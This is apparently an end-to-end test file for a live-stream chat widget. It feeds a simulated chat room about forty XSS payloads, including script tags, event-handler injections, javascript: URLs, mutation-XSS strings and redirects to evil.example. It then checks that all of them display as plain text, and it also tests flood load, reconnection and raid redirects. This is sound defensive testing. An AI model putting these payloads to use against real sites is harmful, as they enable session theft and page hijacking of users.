// What a room may bring that no server of ours would let through: markup in every field, floods, and
// connections that break. The test plays the room.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Server, accessible, launch, login, open } from "./harness.mjs";
import { Room, person } from "./room.mjs";

let server;
let browser;
let state;

before(async () => {
  server = await Server.start();
  await server.user("ada", "viewer");
  await server.channel("boats", "ada");
  browser = await launch();
  const { context, page } = await open(browser);
  await login(page, server, "ada");
  state = await context.storageState();
  await context.close();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

const ada = person("ada", { may_say: true, moderator: true });

// The chat alone, with a room that the test plays.
async function play(welcome, answer) {
  const opened = await open(browser, { storageState: state });
  const room = await Room.play(opened.page, { you: ada, ...welcome }, answer);
  await opened.page.goto(`${server.http}/popout/boats/chat`);
  await room.greeted();
  await opened.page.locator("#chat[data-connection=open]").waitFor();
  await opened.page.mouse.move(5, 5);
  return { ...opened, room };
}

const PAYLOADS = [
  "<script>hit()</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=hit()>",
  "<img src=https://evil.example/x.png>",
  '"><img src=x onerror=hit()>',
  "'><svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<iframe src=javascript:hit()></iframe>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data=javascript:hit()></object>",
  "<embed src=javascript:hit()>",
  "<body onload=hit()>",
  "<input autofocus onfocus=hit()>",
  "<details open ontoggle=hit()>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()>",
  "<marquee onstart=hit()>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
  "<template><script>hit()</script></template>",
  "<a href=javascript:hit()>click</a>",
  "javascript:hit()",
  "https://example.org/\"onmouseover=\"hit()",
  "https://example.org/'><script>hit()</script>",
  "https://javascript:hit()@example.org/",
  "data:text/html,<script>hit()</script>",
  "vbscript:hit()",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<form action=https://evil.example/><button>go</button></form>",
  "{{constructor.constructor('hit()')()}}",
  "${hit()}",
  "\u202e\u2066<img src=x onerror=hit()>\u2069",
  "&lt;img src=x onerror=hit()&gt;",
  "&#60;script&#62;hit()&#60;/script&#62;",
  "--><script>hit()</script><!--",
  "]]><script>hit()</script>",
  "\u0000<script>hit()</script>",
  "__proto__",
  "<div id=chat class=chat></div>",
  "</textarea><script>hit()</script>",
];

test("markup is text wherever somebody can put it", async () => {
  const { context, page, room, problems } = await play();
  let dialogs = 0;
  page.on("dialog", async (dialog) => {
    dialogs += 1;
    await dialog.dismiss();
  });
  await page.exposeFunction("hit", () => problems.push("a script ran"));
  const elements = () => page.evaluate(() => document.querySelectorAll("script, iframe, object, embed, base, meta, link, style, svg, form, input, audio, video, template, marquee, details").length);
  const before = await elements();
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  for (const [n, payload] of PAYLOADS.entries()) {
    const author = person("eve", { id: payload, display_name: payload, color: payload, badges: [{ kind: payload, version: payload }] });
    const reply_to = { id: payload, user_id: payload, login: payload, display_name: payload, text: payload };
    room.message(author, payload, { reply_to });
    room.message(person(payload), `x ${payload}`, { emotes: [{ id: `../${payload}`, at: 2, len: Array.from(payload).length }] });
    room.message(person("eve"), payload, { announcement: payload });
    room.event("pinned", { message: { id: `p${n}`, at_ms: 1, author, text: payload, emotes: [] } });
    const poll = { id: payload, question: payload, options: [{ text: payload, votes: 1 }, { text: payload, votes: 0 }], ends_at_ms: Date.now() + 60_000, ended: false };
    room.event("poll", { poll });
    room.event("raid_out", { channel: payload, display_name: payload, viewers: 1, leaves_at_ms: Date.now() + 60_000 + n });
    room.event("raid_in", { channel: payload, display_name: payload, viewers: 1 });
    room.event("warned", { user_id: ada.id, login: "ada", reason: payload });
    room.event("action", { action: { revision: n, at_ms: 1, by: { id: "", login: payload, display_name: payload }, act: "warn", user: { id: "", login: "", display_name: payload }, reason: payload } });
    // Each of them is drawn before the next comes.
    await page.locator(".chat-line", { hasText: "x " }).last().waitFor();
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    const shown = await page.locator(".chat-question").textContent();
    assert.equal(shown, payload.replaceAll("\u0000", "\u0000"), "the question is shown as it was written");
  }
  assert.equal(await page.locator(".chat-line .chat-text", { hasText: "<script>hit()</script>" }).first().isVisible(), true);
  // The card of a person, and an answer to them.
  await page.locator(".chat-line .chat-name").last().click();
  await page.getByRole("dialog").waitFor();
  await page.keyboard.press("Escape");
  assert.equal(await elements(), before, "no element was made of what somebody wrote");
  const links = await page.locator(".chat-line a").evaluateAll((all) => all.map((link) => link.protocol));
  assert.ok(links.every((protocol) => protocol === "https:" || protocol === "http:"));
  const ours = new URL(server.http).host;
  const elsewhere = requests.filter((url) => new URL(url).host !== ours);
  assert.deepEqual(elsewhere, []);
  assert.deepEqual(requests.filter((url) => !/\/(emotes|api\/v1\/channels\/boats)\//.test(url)), [], "nothing but emotes and the API is asked for");
  assert.equal(dialogs, 0);
  assert.deepEqual(problems.filter((problem) => !problem.includes("status of 4")), []);
  await context.close();
});

test("fifty messages a second for twenty seconds: the page stays small and answers", async () => {
  const { context, page, room, problems } = await play({ you: person("ada", { may_say: true, moderator: false }) });
  await page.evaluate(() => {
    window.long = [];
    new PerformanceObserver((list) => window.long.push(...list.getEntries().map(({ duration }) => duration))).observe({ type: "longtask" });
    window.frames = 0;
    const count = () => {
      window.frames += 1;
      requestAnimationFrame(count);
    };
    requestAnimationFrame(count);
  });
  const nodes = () => page.evaluate(() => document.querySelectorAll("*").length);
  const quiet = await nodes();
  const from = Date.now();
  let sent = 0;
  let most = 0;
  let slowest = 0;
  while (Date.now() - from < 20_000) {
    const due = Math.floor((Date.now() - from) / 20);
    for (; sent < due; sent += 1) {
      room.message(person(`viewer${sent % 97}`), `message ${sent} with https://example.org/${sent} and @ada`);
    }
    const asked = Date.now();
    most = Math.max(most, await page.locator(".chat-line").count());
    slowest = Math.max(slowest, Date.now() - asked);
    await new Promise((resolve) => setTimeout(resolve, 40));
  }
  await page.locator(".chat-line", { hasText: `message ${sent - 1} ` }).waitFor();
  const { long, frames, live } = await page.evaluate(() => ({ long: window.long, frames: window.frames, live: document.querySelector(".chat-log").ariaLive }));
  console.log(`# ${sent} messages, at most ${most} lines, ${long.length} long tasks (longest ${Math.max(0, ...long).toFixed(0)} ms), ${(frames / 20).toFixed(0)} frames a second, slowest answer ${slowest} ms`);
  assert.ok(sent >= 950, `${sent} messages`);
  assert.ok(most <= 200, `${most} lines`);
  assert.ok((await nodes()) - quiet < 200 * 12, "elements are bounded");
  assert.ok(Math.max(0, ...long) < 250, `a task of ${Math.max(...long)} ms`);
  assert.ok(long.reduce((sum, ms) => sum + ms, 0) < 2000, "long tasks are few");
  assert.equal(live, "off", "nobody is read fifty messages a second");
  await page.locator("#chat-text").fill("still here");
  await page.keyboard.press("Enter");
  await page.locator(".chat-own", { hasText: "still here" }).waitFor({ timeout: 1000 });
  assert.deepEqual(problems, []);
  await context.close();
});

test("whoever reads is not disturbed, and told how much is new", async () => {
  const history = Array.from({ length: 60 }, (_, n) => ({ id: `h${n}`, at_ms: n, author: person("bob"), text: `history ${n}` }));
  const { context, page, room } = await play({ history });
  const log = page.locator(".chat-log");
  await page.locator(".chat-line", { hasText: "history 59" }).waitFor();
  const box = await log.boundingBox();
  await page.mouse.move(box.x + 50, box.y + 50);
  for (let n = 0; n < 3; n += 1) room.message(person("bob"), `new ${n}`);
  await page.getByRole("button", { name: "3 new messages" }).waitFor();
  assert.equal(await page.locator(".chat-line", { hasText: "new 0" }).count(), 0);
  // What is taken back is gone at once all the same.
  room.event("deleted", { message_id: "h59" });
  await page.locator(".chat-deleted", { hasText: "history 59" }).waitFor();
  await accessible(page);
  await page.mouse.move(5, 5);
  await page.locator(".chat-line", { hasText: "new 2" }).waitFor();
  await log.evaluate((log) => log.scrollTo(0, 0));
  await page.getByRole("button", { name: "To the newest" }).waitFor();
  room.message(person("bob"), "while scrolled up");
  await page.getByRole("button", { name: "1 new message" }).click();
  await page.locator(".chat-line", { hasText: "while scrolled up" }).waitFor();
  await context.close();
});

test("a lost connection comes back with its position, and sends what was not answered once more", async () => {
  const { context, page, room } = await play();
  room.message(person("bob"), "before");
  await page.locator(".chat-line", { hasText: "before" }).waitFor();
  await page.locator("#chat-text").fill("unanswered");
  await page.keyboard.press("Enter");
  room.welcome = { you: ada, recovered: true };
  await room.close(4000);
  await page.getByText("The connection was lost.").waitFor();
  await room.greeted(2);
  assert.deepEqual(room.hellos[1].resume, { epoch: 1, n: 1 });
  await page.locator("#chat[data-connection=open]").waitFor();
  await page.waitForFunction(() => document.querySelector(".chat-state").hidden);
  assert.deepEqual(room.heard.map(({ id, text }) => [id, text]), [
    [room.heard[0].id, "unanswered"],
    [room.heard[0].id, "unanswered"],
  ]);
  assert.equal(await page.locator(".chat-line", { hasText: "before" }).count(), 1);
  // One that cannot be taken up says so.
  room.welcome = { you: ada, history: [{ id: "h", at_ms: 1, author: person("bob"), text: "meanwhile" }] };
  await room.close(4000);
  await room.greeted(3);
  await page.getByText("messages in between may be missing").waitFor();
  await page.locator(".chat-line", { hasText: "meanwhile" }).waitFor();
  room.send({ op: "gap", to: { epoch: 1, n: 50 } });
  await page.getByText("some messages were left out").waitFor();
  await room.close(4502);
  await page.getByText("There are too many connections").waitFor();
  await context.close();
});

test("a raid takes viewers along, but for those who stay", async () => {
  const { context, page, room } = await play();
  const raid = (name, ms) => room.event("raid_out", { channel: name, display_name: name, viewers: 12, leaves_at_ms: Date.now() + ms });
  raid("rivers", 3000);
  await page.getByText("You are going to rivers in").waitFor();
  await accessible(page);
  await page.getByRole("button", { name: "Stay here" }).click();
  await page.getByText("You are going to rivers in").waitFor({ state: "detached" });
  raid("lakes", 60_000);
  await page.getByText("You are going to lakes in").waitFor();
  room.event("raid_cancelled");
  await page.getByText("You are going to lakes in").waitFor({ state: "detached" });
  raid("boats", 1500);
  await room.greeted(2);
  assert.equal(page.url(), `${server.http}/popout/boats/chat`);
  // A name is one step of an address, whatever is in it.
  await page.goto(`${server.http}/boats`);
  await room.greeted(3);
  raid("/evil.example", 1);
  await page.waitForURL(/evil/);
  assert.equal(page.url(), `${server.http}/%2Fevil.example`);
  await context.close();
});

test("times can be shown, and the chat put out of the way of the video", async () => {
  const { context, page, room } = await play();
  room.message(person("bob"), "what time is it");
  const time = page.locator(".chat-line", { hasText: "what time" }).locator("time");
  await time.waitFor({ state: "attached" });
  assert.equal(await time.isVisible(), false);
  await page.locator("summary[aria-label=Options]").click();
  await page.getByLabel("Show times").check();
  await time.waitFor();
  await page.goto(`${server.http}/boats`);
  await page.locator("#chat").waitFor();
  assert.equal(await page.getByLabel("Show times").isChecked(), true, "it is remembered");
  await page.getByRole("button", { name: "Hide the chat" }).click();
  await page.locator("#chat").waitFor({ state: "hidden" });
  await page.reload();
  await page.getByRole("button", { name: "Show the chat" }).click();
  await page.locator("#chat").waitFor();
  await context.close();
});
